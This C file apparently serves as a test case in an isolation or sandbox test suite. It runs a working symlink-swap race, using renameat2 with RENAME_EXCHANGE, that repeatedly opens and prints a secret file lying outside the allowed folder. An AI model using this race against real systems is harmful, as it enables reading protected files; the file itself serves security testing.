// title: swap a link in the way of an open
// kind: read
#include "attack.h"

static volatile int stop;

static void* swap(void* nothing) {
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, "inside", AT_FDCWD, "outside", 2 /* RENAME_EXCHANGE */);
  return nothing;
}

static void attack(void) {
  char folder[PATH_MAX];
  snprintf(folder, sizeof folder, "%s", get("secret"));
  *strrchr(folder, '/') = 0;
  mkdir("inside", 0700);
  close(open("inside/secret", O_CREAT | O_WRONLY, 0600));
  if (symlink(folder, "outside") != 0) return;
  pthread_t thread;
  pthread_create(&thread, NULL, swap, NULL);
  for (int i = 0; i < 20000; i++) {
    int fd = open("inside/secret", O_RDONLY);
    char text[256] = "";
    if (fd >= 0 && read(fd, text, sizeof text - 1) > 0) printf("%s\n", text);
    if (fd >= 0) close(fd);
  }
  stop = 1;
  pthread_join(thread, NULL);
}
